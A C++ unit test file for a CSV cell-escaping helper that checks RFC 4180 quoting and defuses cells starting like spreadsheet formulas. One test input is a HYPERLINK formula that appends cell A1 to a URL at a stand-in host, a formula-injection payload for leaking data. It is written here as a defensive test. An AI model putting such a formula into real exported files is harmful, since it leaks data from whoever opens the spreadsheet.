#include "cli/csv_output.h"

#include "gtest/gtest.h"

namespace fraudgate::cli {
namespace {

TEST(CsvOutputTest, PlainCellsAndNumbersAreWrittenAsTheyAre) {
  for (const char* cell :
       {"", "BLOCK", "1500000", "0", "97", "2026-11-29 12:59:51+07:00",
        "BANK_ACCOUNT:970436:0071001234567", "a+b=c@d-e",
        "police/dev-police"}) {
    EXPECT_EQ(CsvCell(cell), cell);
  }
}

TEST(CsvOutputTest, Rfc4180Quoting) {
  EXPECT_EQ(CsvCell("t,1"), "\"t,1\"");
  EXPECT_EQ(CsvCell("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvCell("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(CsvCell("cr\rin"), "\"cr\rin\"");
}

TEST(CsvOutputTest, CellsThatStartLikeAFormulaAreNeutralised) {
  EXPECT_EQ(CsvCell("=1+1"), "\"'=1+1\"");
  EXPECT_EQ(CsvCell("+1+1"), "\"'+1+1\"");
  EXPECT_EQ(CsvCell("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(CsvCell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
  EXPECT_EQ(CsvCell("\t=1"), "\"'\t=1\"");
  EXPECT_EQ(CsvCell("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(CsvCell("-"), "\"'-\"");
  // Quotes inside are doubled as in any quoted cell.
  EXPECT_EQ(CsvCell("=HYPERLINK(\"http://x.example/?\"&A1,\"a,b\")"),
            "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"a,b\"\")\"");
  // A cell that begins with a quote is no formula: left as it is.
  EXPECT_EQ(CsvCell("'=1"), "'=1");
}

TEST(CsvOutputTest, LineJoinsCells) {
  EXPECT_EQ(CsvLine({}), "");
  EXPECT_EQ(CsvLine({"a"}), "a");
  EXPECT_EQ(CsvLine({"", "=x", "1,2", "3"}), ",\"'=x\",\"1,2\",3");
}

}  // namespace
}  // namespace fraudgate::cli
